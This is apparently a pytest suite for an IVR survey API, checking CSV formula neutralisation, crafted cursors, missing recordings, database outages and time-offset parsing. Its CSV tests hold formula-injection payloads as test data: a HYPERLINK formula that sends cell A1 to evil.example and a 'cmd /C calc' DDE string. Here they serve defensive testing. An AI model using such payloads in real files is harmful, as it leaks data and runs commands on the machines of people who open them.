"""Input that used to give a 500, or worse: CSV cells a spreadsheet would run as formulas, crafted cursors,
recording names that resolve to no file, a database that is down, and a time whose `+` a URL made a space."""

from __future__ import annotations

import asyncio
import base64
import json
import shutil
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from aiohttp import ClientPayloadError
from aiohttp.test_utils import TestClient
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from ivr_survey.api import ratings as ratings_api
from ivr_survey.db.history import save_call
from ivr_survey.db.operators import OperatorRow, upsert_operators
from ivr_survey.db.tokens import create_token
from tests.support.api_client import AUTH, admin_client, get
from tests.support.seed import Rated, seed

T = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def bad(parameter: str, message: str) -> dict[str, Any]:
    return {"error": {"code": "invalid_parameter", "message": message, "details": {"parameter": parameter}}}


def raw_cursor(json_text: str) -> str:
    return base64.urlsafe_b64encode(json_text.encode()).decode().rstrip("=")


def cursor(*values: Any) -> str:
    return raw_cursor(json.dumps(list(values)))


@pytest.fixture
async def client(
    database_url: str, sessions: async_sessionmaker[AsyncSession], tmp_path: Path
) -> AsyncIterator[TestClient]:
    recordings = tmp_path / "monitor"
    recordings.mkdir()
    (recordings / "loop.wav").symlink_to("loop.wav")
    (recordings / "folder.wav").mkdir()
    async with admin_client(database_url, tmp_path, recordings_dir=recordings) as c:
        yield c


# --- CSV: no cell a spreadsheet would run as a formula ---

ANSWERS_5 = '"[{""question"":""rating"",""key"":""5"",""score"":5.0,""attempts"":1}]"'
# an operator's name comes from an imported file: its cell is neutralised as a caller ID is
NAMED = OperatorRow("7001", "=1+1 Anna", None)
NAME_CELL = "'=1+1 Anna"
RATINGS_HEADER = (
    "call_id,operator,operator_name,queue,survey,survey_version,status,score,answers,caller,channel,language,"
    "started_at,ended_at,channel_uniqueid,campaign,reason\r\n"
)
# caller ID as given -> its cell in the CSV file
CALLER_CELLS = [
    (HYPERLINK, '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", '"\'\r=1+1"'),
    ("-2+3", "'-2+3"),
    ("+79161234567", "+79161234567"),  # a plain number: a spreadsheet reads it as a number, never a formula
    ("-3.5", "-3.5"),
]


async def test_ratings_csv_neutralises_formulas(client: TestClient, sessions) -> None:
    async with sessions() as s, s.begin():
        await upsert_operators(s, [NAMED])
    await seed(
        sessions,
        [
            Rated(f"F{n}", "7001", T + timedelta(minutes=n), 5.0, caller=caller)
            for n, (caller, _) in enumerate(CALLER_CELLS)
        ],
    )
    resp = await client.get("/ratings?format=csv", headers=AUTH)
    assert resp.status == 200
    expected = RATINGS_HEADER + "".join(
        f"F{n},7001,{NAME_CELL},,default,1,completed,5.0,{ANSWERS_5},{cell},ari,en,2026-11-20T10:0{n}:00+00:00,"
        f"2026-11-20T10:0{n}:05+00:00,F{n}.2,,\r\n"
        for n, (_, cell) in reversed(list(enumerate(CALLER_CELLS)))
    )
    assert (await resp.read()).decode() == expected


async def test_calls_csv_neutralises_formulas_and_writes_booleans_in_lower_case(client: TestClient, sessions) -> None:
    async with sessions() as s, s.begin():
        await upsert_operators(s, [NAMED])
        await save_call(
            s,
            linkedid="K1",
            direction="inbound",
            disposition="answered",
            source="ami",
            caller_number=HYPERLINK,
            client_number="+79161234567",
            queue="sales",
            operator="7001",
            rung=["7001"],
            started_at=T,
            answered_at=T + timedelta(seconds=5),
            ended_at=T + timedelta(seconds=125),
            ring_seconds=5,
            talk_seconds=120,
            hangup_side="operator",
            incomplete=True,
        )
        await save_call(
            s,
            linkedid="K2",
            direction="inbound",
            disposition="missed",
            source="ami",
            caller_number="@SUM(1+1)",
            client_number="-3.5",
            queue="sales",
            rung=["7002"],
            started_at=T + timedelta(hours=1),
            ended_at=T + timedelta(hours=1, seconds=20),
            ring_seconds=20,
        )
    await seed(sessions, [Rated("K1", "7001", T + timedelta(seconds=126), 5.0, queue="sales", caller=HYPERLINK)])
    resp = await client.get("/calls?format=csv&order=asc", headers=AUTH)
    assert resp.status == 200
    assert (await resp.read()).decode() == (
        "call_id,direction,disposition,caller,client_number,queue,operator,operator_name,rung_operators,started_at,"
        "answered_at,"
        "ended_at,ring_seconds,talk_seconds,hangup_side,recording,incomplete,source,surveyed,callback_call_id,"
        "callback_at,callback_after_seconds,transferred_from\r\n"
        'K1,inbound,answered,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",+79161234567,sales,7001,'
        f"{NAME_CELL},7001,2026-11-20T10:00:00+00:00,2026-11-20T10:00:05+00:00,2026-11-20T10:02:05+00:00,5.0,120.0,operator,,"
        "true,ami,true,,,,\r\n"
        "K2,inbound,missed,'@SUM(1+1),-3.5,sales,,,7002,2026-11-20T11:00:00+00:00,,2026-11-20T11:00:20+00:00,"
        "20.0,,,,false,ami,false,,,,\r\n"
    )


# --- cursors: decoded and checked against the sort column in one place ---

NOT_OURS = bad("cursor", "cursor is not one this API gave out")


@pytest.mark.parametrize(
    "query",
    [
        # an integer past 2**63 where a float is compared, a lone surrogate where text is: both were 500s
        "sort=ring_seconds&cursor=WyJyaW5nX3NlY29uZHMiLCB0cnVlLCAxMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwLCA1XQ",
        "sort=caller&cursor=WyJjYWxsZXIiLCB0cnVlLCAiXHVkODAwIiwgNV0",
        "sort=caller&cursor=" + cursor("caller", True, "a\x00b", 5),
        "sort=caller&cursor=" + cursor("caller", True, 5, 5),
        "sort=caller&cursor=" + cursor("caller", True, True, 5),
        "sort=ring_seconds&cursor=" + cursor("ring_seconds", True, True, 5),
        "sort=ring_seconds&cursor=" + cursor("ring_seconds", True, "5.0", 5),
        "sort=ring_seconds&cursor=" + cursor("ring_seconds", True, 5, 5),  # the API writes 5.0
        "sort=ring_seconds&cursor=" + raw_cursor('["ring_seconds", true, 1e999, 5]'),
        "sort=ring_seconds&cursor=" + raw_cursor('["ring_seconds", true, NaN, 5]'),
        "sort=ring_seconds&cursor=" + raw_cursor('["ring_seconds", true, -Infinity, 5]'),
        "sort=started_at&cursor=" + cursor("started_at", True, "2026-11-20T10:00:00", 5),
        "sort=started_at&cursor=" + cursor("started_at", True, "9999-12-31T23:59:59-05:00", 5),
        "sort=started_at&cursor=" + cursor("started_at", True, 1795715814, 5),
        "sort=started_at&cursor=" + cursor("started_at", True, "2026-11-20T10:00:00+00:00", 2**63),
        "sort=started_at&cursor=" + cursor("started_at", True, "2026-11-20T10:00:00+00:00", True),
        "sort=started_at&cursor=" + cursor("started_at", True, "2026-11-20T10:00:00+00:00", 5.0),
        "sort=started_at&cursor=" + cursor("started_at", True, "2026-11-20T10:00:00+00:00", 0),
        "sort=started_at&cursor=" + cursor("started_at", True, "2026-11-20T10:00:00+00:00", None),
        "sort=started_at&cursor=" + cursor("started_at", True, "2026-11-20T10:00:00+00:00"),
        "sort=started_at&cursor=" + cursor("started_at", True, "2026-11-20T10:00:00+00:00", 5, 6),
        "sort=started_at&cursor=" + raw_cursor('{"sort": "started_at"}'),
    ],
)
async def test_crafted_calls_cursors_are_400(client: TestClient, query: str) -> None:
    assert await get(client, f"/calls?{query}", status=400) == NOT_OURS


@pytest.mark.parametrize("path", ["/ratings", "/cqr/evaluations"])
@pytest.mark.parametrize(
    "value",
    [
        ["2026-11-20T10:00:00+00:00", 2**63],
        ["2026-11-20T10:00:00+00:00", 10**30],
        ["2026-11-20T10:00:00+00:00", -1],
        ["2026-11-20T10:00:00+00:00", 1.5],
        ["\ud800", 1],
        ["2026-11-20T10:00:00\x00+00:00", 1],
        [None, 1],
        ["2026-11-20T10:00:00+00:00", 5, 6],
    ],
)
async def test_crafted_time_cursors_are_400(client: TestClient, path: str, value: list[Any]) -> None:
    assert await get(client, f"{path}?cursor={cursor(*value)}", status=400) == NOT_OURS


@pytest.mark.parametrize("path", ["/calls", "/ratings", "/cqr/evaluations"])
async def test_a_cursor_longer_than_any_the_api_writes_is_400(client: TestClient, path: str) -> None:
    assert await get(client, f"{path}?cursor={'W' * 2001}", status=400) == bad(
        "cursor", "cursor is longer than 2000 characters"
    )


async def test_a_cursor_of_another_order_is_named_as_such(client: TestClient) -> None:
    other = bad("cursor", "the cursor belongs to another sort order; ask again without it")
    for query in (
        "sort=caller&cursor=" + cursor("ring_seconds", True, 5.0, 5),
        "sort=caller&order=asc&cursor=" + cursor("caller", True, "7999", 5),
        "sort=caller&cursor=" + cursor("caller", 1, "7999", 5),
    ):
        assert await get(client, f"/calls?{query}", status=400) == other


async def test_cursors_from_before_the_one_codec_still_page_the_same(client: TestClient, sessions) -> None:
    async with sessions() as s, s.begin():
        for n in range(5):
            await save_call(
                s,
                linkedid=f"P{n}",
                direction="inbound",
                disposition="missed",
                source="ami",
                caller_number=f"7999{n % 2}",
                started_at=T + timedelta(minutes=n),
                ring_seconds=[3.5, None, 1.0, 3.5, 2.0][n],
            )
    # the old calls codec wrote json.dumps' default separators; the ratings one wrote compact JSON
    first = await get(client, "/calls?sort=ring_seconds&limit=2")
    assert [i["call_id"] for i in first["items"]] == ["P3", "P0"]
    old = cursor("ring_seconds", True, 3.5, json.loads(base64.urlsafe_b64decode(first["next_cursor"] + "==="))[3])
    for token in (first["next_cursor"], old):
        page = await get(client, f"/calls?sort=ring_seconds&limit=2&cursor={token}")
        assert [i["call_id"] for i in page["items"]] == ["P4", "P2"]
    after_null = await get(
        client, "/calls?sort=ring_seconds&limit=2&cursor=" + cursor("ring_seconds", True, None, 10**6)
    )
    assert [i["call_id"] for i in after_null["items"]] == ["P1"]
    long_text = await get(client, "/calls?sort=caller&cursor=" + cursor("caller", True, "9" * 1000, 10**6))
    assert [i["call_id"] for i in long_text["items"]] == ["P3", "P1", "P4", "P2", "P0"]  # 79991, then 79990
    await seed(sessions, [Rated("P0", "7001", T, 4.0)])
    ratings = await get(client, "/ratings?cursor=WyIyMDI2LTExLTIwVDEwOjAwOjAwKzAwOjAwIiw0Ml0")  # the README's
    assert [i["call_id"] for i in ratings["items"]] == ["P0"]


# --- recordings: a name that resolves to no file in the folder is a 404, whatever the reason ---

NO_FILE_NAMES = [
    "bad\x00name.wav",  # PostgreSQL cannot store it; SQLite can
    "x" * 300 + ".wav",  # longer than a file name may be
    "2026/" + "y" * 300 + "/c1.wav",
    "loop.wav",  # a symlink to itself
    "folder.wav",  # a folder
]


@pytest.mark.parametrize("name", NO_FILE_NAMES)
async def test_recording_names_that_resolve_to_nothing_are_404(
    client: TestClient, sessions, database_url: str, name: str
) -> None:
    if "\x00" in name and database_url.startswith("postgresql"):
        pytest.skip("PostgreSQL refuses NUL in text, so no such name is ever stored")
    async with sessions() as s, s.begin():
        await save_call(
            s, linkedid="R1", direction="inbound", disposition="answered", source="ami", started_at=T, recording=name
        )
    assert await get(client, "/calls/R1/recording", status=404) == {
        "error": {"code": "not_found", "message": "no recording for call 'R1'", "details": {"call_id": "R1"}}
    }


@pytest.mark.parametrize("path", ["/calls/R1%00", "/calls/R1%00/recording"])
async def test_a_call_id_with_nul_is_no_call(client: TestClient, path: str) -> None:
    assert await get(client, path, status=404) == {
        "error": {"code": "not_found", "message": "no call 'R1\\x00'", "details": {"call_id": "R1\x00"}}
    }


async def test_an_operator_with_nul_is_no_operator(client: TestClient) -> None:
    assert await get(client, "/operators/7001%00", status=404) == {
        "error": {"code": "not_found", "message": "no operator '7001\\x00'", "details": {"operator": "7001\x00"}}
    }


# --- a database outage is a 503 with Retry-After ---

OUTAGE = {
    "error": {
        "code": "database_unavailable",
        "message": "the database is unavailable; try again in a few seconds",
        "details": {},
    }
}
EVERY_ENDPOINT = [
    ("GET", "/ratings"),
    ("GET", "/ratings?format=csv"),
    ("GET", "/ratings/summary"),
    ("GET", "/operators"),
    ("GET", "/operators/7001"),
    ("GET", "/review-queue"),
    ("GET", "/calls"),
    ("GET", "/calls?format=csv"),
    ("GET", "/calls/stats"),
    ("GET", "/calls/C1"),
    ("GET", "/calls/C1/recording"),
    ("GET", "/cqr/call-types"),
    ("GET", "/cqr/scorecards/spam"),
    ("PUT", "/cqr/scorecards/spam"),
    ("POST", "/cqr/evaluations"),
    ("GET", "/cqr/evaluations"),
]
BODIES = {
    "PUT": {"weights": {"tone": 1}, "remove": ["greeting", "identifying_problem", "related_offer", "script"]},
    "POST": {"call_id": "C1", "call_type": "spam", "scores": {"tone": 1}},
}


@pytest.mark.parametrize("kind", ["postgresql, port closed", "sqlite, folder removed"])
async def test_every_endpoint_is_503_while_the_database_is_down(tmp_path: Path, kind: str) -> None:
    folder = tmp_path / "db"
    folder.mkdir()
    url = {
        "postgresql, port closed": "postgresql+asyncpg://nobody:pw@127.0.0.1:1/none",
        "sqlite, folder removed": f"sqlite+aiosqlite:///{folder / 'survey.db'}",
    }[kind]
    async with admin_client(url, tmp_path, recordings_dir=tmp_path) as client:
        shutil.rmtree(folder)  # the settings want the folder to exist; the service then loses it
        for method, path in EVERY_ENDPOINT:
            resp = await client.request(method, path, headers=AUTH, json=BODIES.get(method))
            assert (resp.status, resp.headers.get("Retry-After"), await resp.json()) == (503, "5", OUTAGE), path
        # a token that is not the bootstrap one is looked up in the database: that is a 503 too
        resp = await client.get("/ratings", headers={"Authorization": "Bearer some-analyst"})
        assert (resp.status, await resp.json()) == (503, OUTAGE)
        assert (await client.get("/healthz")).status == 503


async def test_an_outage_in_the_middle_of_a_csv_export_cuts_it_short(
    client: TestClient, sessions, monkeypatch: pytest.MonkeyPatch
) -> None:
    await seed(sessions, [Rated(f"A{n}", "7001", T + timedelta(minutes=n), 5.0) for n in range(3)])
    every_rating = ratings_api.iter_ratings

    async def first_then_gone(session: AsyncSession, **kwargs: Any) -> AsyncIterator[dict[str, Any]]:
        async for item in every_rating(session, **kwargs):
            yield item
            raise ConnectionRefusedError(111, "Connect call failed")

    monkeypatch.setattr(ratings_api, "iter_ratings", first_then_gone)
    resp = await client.get("/ratings?format=csv", headers=AUTH)
    assert resp.status == 200  # sent with the first row, before the database went away
    async with asyncio.timeout(5):  # the client is told, rather than left waiting for the rest
        with pytest.raises(ClientPayloadError):
            await resp.read()


async def test_a_database_without_its_tables_is_a_500_not_an_outage(empty_database_url: str, tmp_path: Path) -> None:
    async with admin_client(empty_database_url, tmp_path) as client:
        resp = await client.get("/ratings", headers=AUTH)
        assert (resp.status, resp.headers.get("Retry-After"), await resp.json()) == (
            500,
            None,
            {"error": {"code": "internal_error", "message": "internal error; see the service log", "details": {}}},
        )


async def test_an_analyst_token_is_looked_up_in_a_working_database(client: TestClient, sessions) -> None:
    async with sessions() as s, s.begin():
        token = await create_token(s, name="ann", role="analyst")
    assert (await client.get("/ratings", headers={"Authorization": f"Bearer {token}"})).status == 200


# --- times: a `+` the URL turned into a space is still the offset ---


async def test_a_literal_plus_in_the_offset_is_read_as_plus(client: TestClient, sessions) -> None:
    await seed(
        sessions,
        [
            Rated("Z1", "7001", T - timedelta(minutes=1), 5.0),
            Rated("Z2", "7001", T, 4.0),
            Rated("Z3", "7001", T + timedelta(hours=1), 3.0),
        ],
    )
    # 13:00+03:00 is 10:00Z; an unescaped + arrives as a space
    for query in (
        "from=2026-11-20T13:00:00+03:00&to=2026-11-20T14:00:00+03:00",
        "from=2026-11-20T13:00:00%2B03:00&to=2026-11-20T14:00:00%2B03:00",
        "from=2026-11-20T13:00:00%2003:00&to=2026-11-20 14:00:00 0300",
        "from=2026-11-20T13:00:00+03&to=2026-11-20T11:00:00Z",
    ):
        body = await get(client, f"/ratings?{query}")
        assert [i["call_id"] for i in body["items"]] == ["Z2"], query
    west = await get(client, "/ratings?from=2026-11-20T05:00:00-05:00&to=2026-11-20T05:30:00-05:00")
    assert [i["call_id"] for i in west["items"]] == ["Z2"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        (
            "from=2026-11-20T10:00:00",
            bad("from", "from needs a time zone, e.g. 2026-11-26T00:00:00Z or 2026-11-26T00:00:00%2B03:00"),
        ),
        ("to=2026-11-20", bad("to", "to needs a time zone, e.g. 2026-11-26T00:00:00Z or 2026-11-26T00:00:00%2B03:00")),
        (
            "to=2026-11-20 03:00",  # a date and a time, no offset: not read as +03:00
            bad("to", "to needs a time zone, e.g. 2026-11-26T00:00:00Z or 2026-11-26T00:00:00%2B03:00"),
        ),
        (
            "from=yesterday",
            bad("from", "from must be an ISO 8601 time, e.g. 2026-11-26T00:00:00Z or 2026-11-26T00:00:00%2B03:00"),
        ),
        (
            "from=2026-11-20T10:00:00 03:00 03:00",
            bad("from", "from must be an ISO 8601 time, e.g. 2026-11-26T00:00:00Z or 2026-11-26T00:00:00%2B03:00"),
        ),
    ],
)
async def test_time_messages_suggest_what_survives_a_url(client: TestClient, query: str, expected: dict) -> None:
    assert await get(client, f"/ratings?{query}", status=400) == expected
